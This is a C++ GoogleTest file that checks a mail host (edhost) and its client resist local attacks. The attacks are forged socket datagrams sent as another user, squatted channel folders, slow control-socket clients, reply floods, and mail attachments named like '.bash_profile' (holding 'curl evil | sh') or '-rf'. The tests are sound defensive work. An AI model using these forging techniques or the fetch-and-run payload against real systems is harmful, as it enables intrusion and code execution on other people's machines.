// Other users of the machine and other processes of the same user against a running edhost and
// Postbridge: nothing they send is taken, no name they squat is used, and the owner's work goes
// on. The attacks of another user run in a child process under "nobody" (tests that need that
// run only as root, as the mail server fixtures do).
#include "host/EchodeskAPI.h"
#include "mail/PB_Liste.h"
#include "platform/HostWindow.h"
#include "platform/Session.h"
#include "platform/ThreadMessages.h"
#include "platform/UnixSockets.h"
#include "support/EdhostProcess.h"
#include "support/FileBytes.h"
#include "support/MailRunFixture.h"
#include "support/TempRoot.h"

#include <QCoreApplication>
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <csignal>
#include <cstring>
#include <fcntl.h>
#include <filesystem>
#include <functional>
#include <grp.h>
#include <poll.h>
#include <pwd.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

namespace pb {
namespace {

namespace fs = std::filesystem;
using test::boxes;
using test::EdhostProcess;

// The layout of a channel datagram, as a foreign process would forge it.
struct Forged {
    std::uint32_t marker = 0x4D534731;
    std::uint32_t message;
    std::uint64_t wParam = 0;
    std::int64_t lParam = 0;
    std::uint32_t time = 0;
    std::uint32_t senderTid;
    std::int32_t senderPid;
    std::uint32_t seq;
};
static_assert(sizeof(Forged) == 40);

bool nobody(uid_t& uid, gid_t& gid) {
    const passwd* pw = ::getpwnam("nobody");
    if (!pw || ::geteuid() != 0)
        return false;
    uid = pw->pw_uid;
    gid = pw->pw_gid;
    return true;
}

// Runs fn in a child process, under `nobody` when asForeign; returns its exit code. The child
// uses only system calls on what was prepared before the fork.
int inChild(bool asForeign, const std::function<int()>& fn) {
    uid_t uid = 0;
    gid_t gid = 0;
    if (asForeign && !nobody(uid, gid))
        return -1;
    pid_t pid = ::fork();
    if (pid == 0) {
        if (asForeign && (::setgroups(0, nullptr) != 0 || ::setresgid(gid, gid, gid) != 0 ||
                          ::setresuid(uid, uid, uid) != 0))
            ::_exit(100);
        ::_exit(fn());
    }
    int st = 0;
    ::waitpid(pid, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 200;
}

int sendForged(const std::string& queue, std::uint32_t message, std::uint32_t seq) {
    sockaddr_un addr;
    socklen_t len = 0;
    unixAddress(queue, addr, len);
    int fd = ::socket(AF_UNIX, SOCK_DGRAM, 0);
    Forged w{};
    w.marker = 0x4D534731;
    w.message = message;
    w.senderTid = static_cast<std::uint32_t>(::getpid());
    w.senderPid = ::getpid();
    w.seq = seq;
    ssize_t n = ::sendto(fd, &w, sizeof w, 0, reinterpret_cast<sockaddr*>(&addr), len);
    ::close(fd);
    return n == static_cast<ssize_t>(sizeof w) ? 1 : 0;
}

// A stream request: true when anything at all came back.
bool streamAnswered(const std::string& path, const std::string& request) {
    sockaddr_un addr;
    socklen_t len = 0;
    unixAddress(path, addr, len);
    int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), len) != 0) {
        ::close(fd);
        return false;
    }
    timeval tv{2, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ::send(fd, request.data(), request.size(), MSG_NOSIGNAL);
    char c;
    bool answered = ::recv(fd, &c, 1, 0) == 1;
    ::close(fd);
    return answered;
}

std::string le32(std::uint32_t v) { return std::string(reinterpret_cast<const char*>(&v), 4); }

// The control request `disconnect --base ...` in the control socket's framing.
std::string controlRequest(const std::vector<std::string>& args) {
    std::string out = le32(static_cast<std::uint32_t>(args.size()));
    for (const auto& a : args)
        out += le32(static_cast<std::uint32_t>(a.size())) + a;
    return out;
}

std::string attachRequest(std::uint32_t tid) {
    std::string out = le32(0x57494E31) + le32(edapi::Attach);
    std::uint64_t w = tid;
    std::int64_t l = tid;
    out.append(reinterpret_cast<const char*>(&w), 8);
    out.append(reinterpret_cast<const char*>(&l), 8);
    return out;
}

// A runtime folder of the test's own ($XDG_RUNTIME_DIR), open for others to pass through like
// /run/user, so that what a test does to the channel folder in it touches no other test.
struct RuntimeDir {
    std::string path = test::tempRoot() + "/pb-run-" + std::to_string(::getpid());
    std::string old = std::getenv("XDG_RUNTIME_DIR") ? std::getenv("XDG_RUNTIME_DIR") : "";
    RuntimeDir() {
        fs::create_directories(path);
        ::chmod(path.c_str(), 0755);
        ::setenv("XDG_RUNTIME_DIR", path.c_str(), 1);
    }
    ~RuntimeDir() {
        if (old.empty())
            ::unsetenv("XDG_RUNTIME_DIR");
        else
            ::setenv("XDG_RUNTIME_DIR", old.c_str(), 1);
        std::error_code ec;
        fs::remove_all(path, ec);
    }
};

class ForeignUser : public ::testing::Test {
protected:
    void SetUp() override {
        uid_t u;
        gid_t g;
        if (!nobody(u, g))
            GTEST_SKIP() << "needs root to act as another user";
        runtime = std::make_unique<RuntimeDir>();
        host = std::make_unique<EdhostProcess>();
        ASSERT_TRUE(host->running());
        api = std::make_unique<TEchodeskAPI>();
        api->Connect();
        ASSERT_TRUE(api->Connected());
        session = channelDirectory().path;
        root = channelRoot().path;
        worker = channelPath("q-" + threadIdHex(api->WorkerThreadId()));
        main = channelPath("q-" + threadIdHex(currentThreadId()));
        window = channelPath("w-TEDMainWindow");
        for (const auto& e : fs::directory_iterator(root))
            if (e.path().filename().string().rfind("ctl-", 0) == 0)
                control.push_back(e.path().string());
    }
    void TearDown() override {
        api.reset();
        host.reset();
        runtime.reset();
    }
    // The owner's work goes on: the host answers, stores and lists.
    void ownerWorksOn() {
        ASSERT_TRUE(api->Connected());
        std::vector<std::string> areas;
        ASSERT_NO_THROW(api->GetAreaList(areas));
        EXPECT_FALSE(areas.empty());
        TNewMsg rec("still here\r\n");
        rec.Header().Subject.assign("owner");
        ASSERT_NO_THROW(api->OpenArea("REPORT"));
        ASSERT_NO_THROW(api->StoreNewMsg(rec));
        ASSERT_NO_THROW(api->CloseArea());
        EXPECT_NE(host->run({"status"}).find("1 plug-in(s) attached"), std::string::npos);
    }

    std::unique_ptr<RuntimeDir> runtime;
    std::unique_ptr<EdhostProcess> host;
    std::unique_ptr<TEchodeskAPI> api;
    std::string session, root, worker, main, window;
    std::vector<std::string> control;
};

TEST_F(ForeignUser, CannotReachOrSquatAnythingInTheChannelFolder) {
    ASSERT_FALSE(control.empty());
    std::string block = session + "/m-" + edapi::blockName(edapi::BlkStoreNew, currentThreadId());
    int reached = inChild(true, [&] {
        int n = 0;
        n += streamAnswered(window, attachRequest(static_cast<std::uint32_t>(::getpid())));
        n += sendForged(worker, edapi::Detach, 0);
        n += sendForged(main, edapi::Reply, 1);
        n += streamAnswered(control[0], controlRequest({"show", "REPORT", "1"}));
        int fd = ::open(block.c_str(), O_CREAT | O_EXCL | O_RDWR, 0666);   // squat a block
        n += fd >= 0;
        n += ::mkdir((session + "/w-Other").c_str(), 0777) == 0;
        return n;
    });
    EXPECT_EQ(reached, 0);
    ownerWorksOn();
}

TEST_F(ForeignUser, KernelCredentialsTurnAwayEverythingEvenInAnOpenFolder) {
    // As if the folders had been opened to everyone: the credential checks alone must hold.
    const std::vector<std::string> opened = {root, session, worker, main, window, control[0]};
    for (const auto& p : opened)
        ASSERT_EQ(::chmod(p.c_str(), 0777), 0) << p;
    const std::uint64_t droppedBefore = droppedMessages();
    std::string base = host->base();
    int got = inChild(true, [&] {
        int n = 0;
        n += streamAnswered(window, attachRequest(static_cast<std::uint32_t>(::getpid())));
        n += streamAnswered(control[0], controlRequest({"disconnect", "--base", base}));
        n += streamAnswered(control[0], controlRequest({"show", "REPORT", "1"}));
        // Sent, but the kernel names the sender: both must be dropped on arrival.
        if (sendForged(worker, edapi::Detach, 0) != 1 || sendForged(main, edapi::Reply, 1) != 1)
            n += 10;
        return n;
    });
    EXPECT_EQ(got, 0);   // no attach, no control answer
    // The forged detach never reached the component; the forged reply is counted too.
    tagMSG msg;
    EXPECT_FALSE(peekMessage(msg, 0, 0xFFFFFFFF));
    QCoreApplication::processEvents();
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(2);
    while (droppedMessages() < droppedBefore + 2 && std::chrono::steady_clock::now() < until) {
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
        peekMessage(msg, 0, 0xFFFFFFFF);
    }
    EXPECT_GE(droppedMessages(), droppedBefore + 2);
    ::chmod(root.c_str(), 0700);
    ::chmod(session.c_str(), 0700);
    QCoreApplication::processEvents();
    ownerWorksOn();
}

// ---- edhost's control socket ------------------------------------------------------------------

TEST(HostControl, FilesAreReadByTheClientAndASlowClientHoldsUpNobody) {
    RuntimeDir runtime;
    EdhostProcess host;
    ASSERT_TRUE(host.running());
    std::string control;
    for (const auto& e : fs::directory_iterator(channelRoot().path))
        if (e.path().filename().string().rfind("ctl-", 0) == 0)
            control = e.path().string();
    ASSERT_FALSE(control.empty());

    // A client that names a file gets it read by the serving host never.
    const std::string secret = runtime.path + "/secret";
    test::writeBytes(secret, "not for the base\n");
    sockaddr_un addr;
    socklen_t len = 0;
    ASSERT_TRUE(unixAddress(control, addr, len));
    {
        int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), len), 0);
        const std::string req = controlRequest(
            {"write", "REPORT", "--from", "a", "--to", "b", "--subject", "s", "--text-file", secret});
        ::send(fd, req.data(), req.size(), MSG_NOSIGNAL);
        std::int32_t refused = 0;
        EXPECT_EQ(::recv(fd, &refused, 4, MSG_WAITALL), 4);
        EXPECT_NE(refused, 0);
        ::close(fd);
    }
    int code = -1;
    EXPECT_EQ(host.run({"write", "REPORT", "--from", "a", "--to", "b", "--subject", "z",
                        "--text-file", "/dev/zero"}, &code), "");
    EXPECT_NE(code, 0);
    EXPECT_EQ(host.run({"list", "REPORT"}), "");
    // The person's own file still goes in, read by their edhost.
    host.run({"write", "REPORT", "--from", "a", "--to", "b", "--subject", "mine", "--text-file", secret}, &code);
    EXPECT_EQ(code, 0);
    EXPECT_NE(host.run({"show", "REPORT", "1"}).find("not for the base"), std::string::npos);

    // Clients that trickle a byte now and then, never finishing their request.
    std::vector<int> slow;
    for (int i = 0; i < 3; ++i) {
        int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), len), 0);
        slow.push_back(fd);
    }
    std::atomic<bool> stop{false};
    std::thread trickle([&] {
        for (int n = 0; !stop && n < 40; ++n) {
            for (int fd : slow)
                ::send(fd, "\x02", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
        }
    });
    TEchodeskAPI api;
    api.ReplyTimeoutMs = 2000;
    api.Connect();
    EXPECT_TRUE(api.Connected());
    EXPECT_NE(host.run({"status"}).find("1 plug-in(s) attached"), std::string::npos);
    stop = true;
    trickle.join();
    for (int fd : slow)
        ::close(fd);
}

// A base behind a folder edhost may not enter: every command ends in one line and status 1.
TEST(HostCommandLine, AFolderItCannotEnterEndsInOneLineAndAStatus) {
    uid_t uid;
    gid_t gid;
    if (!nobody(uid, gid))
        GTEST_SKIP() << "needs root to run edhost as another user";
    RuntimeDir runtime;
    const std::string locked = runtime.path + "/locked";
    ASSERT_EQ(::mkdir(locked.c_str(), 0700), 0);
    const std::string base = locked + "/base";
    const std::string edhost = test::edhostPath();
    for (const std::vector<std::string>& args :
         {std::vector<std::string>{"status"}, {"areas"}, {"list", "EMAIL"},
          {"write", "EMAIL", "--from", "a", "--to", "b", "--subject", "s", "--text", "t"}, {"serve"}}) {
        const int code = inChild(true, [&] {
            int err[2];
            if (::pipe(err) != 0)
                return 90;
            std::vector<char*> argv{const_cast<char*>(edhost.c_str())};
            for (const std::string& a : args)
                argv.push_back(const_cast<char*>(a.c_str()));
            const std::string baseArg = "--base=" + base;
            argv.push_back(const_cast<char*>(baseArg.c_str()));
            argv.push_back(nullptr);
            pid_t pid = ::fork();
            if (pid == 0) {
                ::dup2(err[1], STDERR_FILENO);
                ::execv(argv[0], argv.data());
                ::_exit(127);
            }
            ::close(err[1]);
            std::string text;
            char buf[256];
            for (ssize_t n; (n = ::read(err[0], buf, sizeof buf)) > 0;)
                text.append(buf, static_cast<std::size_t>(n));
            int st = 0;
            ::waitpid(pid, &st, 0);
            // One line that names the base, and an exit status (no abort).
            const bool oneLine = text.rfind("edhost: ", 0) == 0 && text.find('\n') == text.size() - 1 &&
                                 text.find(base) != std::string::npos;
            return !oneLine ? 91 : WIFEXITED(st) ? WEXITSTATUS(st) : 92;
        });
        EXPECT_EQ(code, 1) << args[0];
    }
}

// ---- squatted names ---------------------------------------------------------------------------

class SquattedFolder : public test::MainWindowFixture {
protected:
    RuntimeDir runtime;
};

// The names in a folder and its own time stamp: what anyone would see change in it.
std::string folderState(const std::string& path) {
    struct stat st{};
    ::lstat(path.c_str(), &st);
    std::string out = std::to_string(st.st_mtim.tv_sec) + "." + std::to_string(st.st_mtim.tv_nsec);
    for (const auto& e : fs::directory_iterator(path)) {
        // A read would move the access time (it is not after the change).
        ::lstat(e.path().c_str(), &st);
        out += " " + e.path().filename().string() + ":" + std::to_string(st.st_size) + ":" +
               std::to_string(st.st_atim.tv_sec) + "." + std::to_string(st.st_atim.tv_nsec);
    }
    return out;
}

TEST_F(SquattedFolder, BothProgramsPassItByForTheSameOwnFolderAndNameIt) {
    uid_t uid;
    gid_t gid;
    if (!nobody(uid, gid))
        GTEST_SKIP() << "needs root to make the folders as another user";
    // Another user made the channel folder and its first spare before us, open to all and
    // with a bait in it (the runtime folder is shared like /dev/shm for this).
    ASSERT_EQ(::chmod(runtime.path.c_str(), 01777), 0);
    const std::string squatted = runtime.path + "/edapi";
    const std::string bait = squatted + "/q-00000001";
    ASSERT_EQ(inChild(true, [&] {
                  int fd = -1;
                  bool ok = ::mkdir(squatted.c_str(), 0777) == 0 && ::chmod(squatted.c_str(), 0777) == 0 &&
                            ::mkdir((squatted + ".1").c_str(), 0700) == 0 &&
                            (fd = ::open(bait.c_str(), O_CREAT | O_WRONLY, 0666)) >= 0 && ::write(fd, "bait", 4) == 4;
                  return ok ? 0 : 1;
              }),
              0);
    const std::string before = folderState(squatted);
    const std::string session = "squat-" + std::to_string(::getpid());
    ::setenv("EDAPI_SESSION", session.c_str(), 1);

    // The first spare that can be ours; the folder passed by is named with its owner.
    const ChannelDir dir = channelDirectory();
    ASSERT_TRUE(dir.ok) << channelProblem(dir);
    EXPECT_EQ(dir.path, squatted + ".2/" + session);
    EXPECT_EQ(dir.passedBy, squatted);
    EXPECT_EQ(dir.passedOwner, uid);

    // edhost picks the same folder and says so on its first line.
    int out[2];
    ASSERT_EQ(::pipe(out), 0);
    const std::string edhost = test::edhostPath();
    const std::string base = runtime.path + "/base";
    pid_t host = ::fork();
    if (host == 0) {
        ::dup2(out[1], STDOUT_FILENO);
        ::execl(edhost.c_str(), edhost.c_str(), "serve", "--base", base.c_str(), static_cast<char*>(nullptr));
        ::_exit(127);
    }
    ::close(out[1]);
    std::string said;
    char c;
    pollfd p{out[0], POLLIN, 0};
    while (said.find('\n') == std::string::npos && ::poll(&p, 1, 10000) == 1 && ::read(out[0], &c, 1) == 1)
        said += c;
    EXPECT_NE(said.find("passing by the channel folder " + squatted + " belongs to nobody"), std::string::npos)
        << said;
    EXPECT_NE(said.find("using " + dir.path), std::string::npos) << said;

    // Postbridge meets it there, and its log names the folder passed by.
    test::writeBytes("pbridge.ini", validIni());
    Tmain& w = createMain();
    w.FormActivate();
    EXPECT_TRUE(w.edapi1->Connected());
    EXPECT_TRUE(boxes().texts().empty());
    const auto log = logTexts();
    EXPECT_NE(std::find(log.begin(), log.end(),
                        "ED95 Kanalordner " + squatted + " geh\xC3\xB6rt nobody (Rechte 0777) und ist damit nicht Ihr "
                        "privater Ordner; verwendet wird " + dir.path),
              log.end());
    w.edapi1->Disconnect();

    ::kill(host, SIGTERM);
    int st = 0;
    ::waitpid(host, &st, 0);
    ::close(out[0]);
    ::unsetenv("EDAPI_SESSION");
    // Nothing was read from the folder passed by or written into it.
    EXPECT_EQ(folderState(squatted), before);
    EXPECT_EQ(test::readBytes(bait), "bait");
}

// ---- a run of real mails under fire -----------------------------------------------------------

class RunUnderFire : public test::MailRunFixture {};

TEST_F(RunUnderFire, ForgedStoredRepliesDeleteNothingUnstored) {
    EdhostProcess host;
    std::vector<std::string> mails;
    for (int i = 1; i <= 100; ++i)
        mails.push_back("From: a@example.org\nSubject: mail " + std::to_string(i) + "\n\ntext\n");
    servers().setMails(mails);
    Tmain& w = startWindow(true);
    // Another process of the same user answers "stored" (0) to everything, with any sequence
    // number, as fast as it can, for the whole run.
    const std::string mainQueue = channelPath("q-" + threadIdHex(currentThreadId()));
    pid_t flood = ::fork();
    if (flood == 0) {
        for (std::uint32_t seq = 0;; ++seq) {
            sendForged(mainQueue, edapi::Reply, seq % 64);
            if (seq % 64 == 0)
                ::usleep(500);
        }
    }
    w.BitBtn2->click();
    ::kill(flood, SIGKILL);
    ::waitpid(flood, nullptr, 0);

    auto subjects = test::hostSubjects(host);
    EXPECT_EQ(subjects.size(), 100u);
    for (int i = 1; i <= 100; ++i)
        EXPECT_EQ(subjects["mail " + std::to_string(i)], 1) << i;
    EXPECT_EQ(servers().pop3Count(), 0u);   // deleted, each after its store
    EXPECT_TRUE(boxes().shown.empty());
}

TEST_F(RunUnderFire, MailedFilesNamedLikeStartUpOrOwnFilesLandHarmlessly) {
    EdhostProcess host;
    test::writeBytes("addressbook.lst", "");
    const std::string mail =
        "From: a@example.org\nSubject: files\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/plain\n\nsee\n"
        "--B\nContent-Type: text/plain; name=\".bash_profile\"\n\ncurl evil | sh\n"
        "--B\nContent-Type: text/plain; name=\"addressbook.lst\"\n\nredirected\n"
        "--B\nContent-Type: text/plain; name=\"readmsg.pnd\"\n\nin doubt\n"
        "--B\nContent-Type: application/octet-stream; name=\"-rf\"\n"
        "Content-Transfer-Encoding: base64\n\nAAAA\n--B--\n";
    servers().setMails({mail});
    Tmain& w = startWindow();
    w.BitBtn2->click();
    EXPECT_EQ(test::readBytes("_.bash_profile"), "curl evil | sh");
    EXPECT_EQ(test::readBytes("_addressbook.lst"), "redirected");
    EXPECT_EQ(test::readBytes("_readmsg.pnd"), "in doubt");
    EXPECT_FALSE(fs::exists("readmsg.pnd"));
    EXPECT_TRUE(fs::exists("_-rf"));
    EXPECT_FALSE(fs::exists(".bash_profile"));
    EXPECT_EQ(test::readBytes("addressbook.lst"), "");
    for (const auto& e : fs::directory_iterator("."))
        EXPECT_EQ(e.path().filename().string().rfind("Temp.mme", 0), std::string::npos) << e.path();
    struct stat st{};
    ASSERT_EQ(::stat("_.bash_profile", &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u);
    ASSERT_EQ(::stat(kReadListFile, &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u);
}

} // namespace
} // namespace pb
